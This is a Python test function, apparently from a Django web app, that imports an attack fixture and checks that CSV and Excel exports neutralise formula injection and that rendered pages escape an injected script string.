def test_exports_carry_no_formula_and_pages_no_script(client, areas, attack):
    with rolled_back():
        import_attack(attack)
        stored = Asset.objects.get(source="fuzz", source_ref="h1").name
        expected = {
            "/acv/E06000047/export.csv": ListEntry.objects.get(reference="A-1").asset.name,
            "/acv/E06000047/export.csv?part=statutory": None,
            "/downloads/register.csv": stored,
            "/indicators/ward.csv": Area.objects.get(gss_code="E05009077").name,
        }
        for url, name in expected.items():
            values = csv_cells(client.get(url))
            unsafe = [v for v in values if v.startswith(FORMULA_STARTS) and not is_number(v)]
            assert not unsafe, (url, unsafe)
            assert name is None or name in values or "'" + name in values, url  # as text

        response = client.get("/downloads/register.xlsx")
        book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
        names = [row[1] for row in book["Places"].iter_rows(values_only=True)]
        assert ILLEGAL_CHARACTERS_RE.sub("", stored) in names

        old = Asset.objects.get(source="fuzz", source_ref="h2")
        for url in (
            old.get_absolute_url(),
            "/acv/E06000047/",
            "/search/?q=Old",
            "/areas/E05009076/",
            "/areas/E05009077/",
            "/indicators/?kind=ward",
        ):
            page = client.get(url).content.decode()
            assert SCRIPT not in page, url
        assert escape("The Old " + SCRIPT) in client.get(old.get_absolute_url()).content.decode()
